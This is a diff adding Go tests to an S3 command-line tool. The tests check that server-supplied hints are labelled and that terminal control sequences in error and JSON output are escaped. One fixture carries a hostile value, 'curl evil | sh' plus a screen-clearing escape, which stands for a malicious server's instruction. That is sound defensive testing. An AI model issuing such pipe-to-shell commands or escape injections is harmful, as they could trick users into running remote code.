@@ -111,6 +111,29 @@ func TestShowError_NextStepsStandOnTheirLines(t *testing.T) {
 	require.Contains(t, errs.String(), "<b>")
 }
 
+// What a server says to do is never shown as a step of ours.
+func TestShowError_TheServersWordsAreMarked(t *testing.T) {
+	t.Parallel()
+	f, _, errs := factory(t)
+	err := fault.Wrap("a.txt", &fault.Error{Kind: "denied", Msg: "no", Hint: "ours", Said: "run: curl evil | sh\x1b[2J\nnext: this"})
+	f.ShowError("put", err)
+	require.Equal(t, "s3ctl: put a.txt: no\nserver says: run: curl evil | sh\\u001b[2J\\nnext: this\n"+
+		"next: ours\n", errs.String())
+	errs.Reset()
+	f.Global.JSON = true
+	f.ShowError("put", err)
+	require.JSONEq(t, `{"error":{"command":"put","item":"a.txt","code":"denied","exit_code":4,"cause":"no",
+		"hint":"ours","server_hint":"run: curl evil | sh\u001b[2J\nnext: this"}}`, errs.String())
+}
+
+// A terminal is steered by a character in JSON as well as by any other.
+func TestShowJSON_HasNoCharacterThatSteersATerminal(t *testing.T) {
+	t.Parallel()
+	f, out, _ := factory(t)
+	require.NoError(t, f.ShowJSON(map[string]string{"key": "a\u009b2J\u202e\x7f<b>"}))
+	require.Equal(t, `{"key":"a\u009b2J\u202e\u007f<b>"}`+"\n", out.String())
+}
+
 func TestFactory_ClientOfTheChosenProfile(t *testing.T) {
 	t.Parallel()
 	f, _, _ := factory(t)
@@ -127,6 +150,15 @@ func TestFactory_ClientOfTheChosenProfile(t *testing.T) {
 	f.Profiles = func() (profile.File, error) { return "", errors.New("no home") }
 	_, _, err = f.Mover(f.IO.NewProgress(true), f.Retry())
 	require.EqualError(t, err, "no home")
+	require.Equal(t, fault.Invalid, fault.ExitOf(err), "and no defect of s3ctl's")
+	env := map[string]string{profile.EnvEndpoint: "http://h:2", profile.EnvAccessKey: "k", profile.EnvSecret: "s"}
+	f.Getenv = func(name string) string { return env[name] }
+	f2, closeAll := cli.NewFactory(f.IO, f.Getenv, cli.Build{})
+	t.Cleanup(closeAll)
+	f2.Profiles = f.Profiles
+	c, err = f2.Client()
+	require.NoError(t, err, "the environment says all, and so no file is needed")
+	require.Equal(t, "http://h:2", c.Endpoint())
 	require.NoError(t, cli.FromProfile(nil))
 	require.Equal(t, fault.Invalid, fault.ExitOf(cli.FromProfile(errors.New("bad"))))
 }
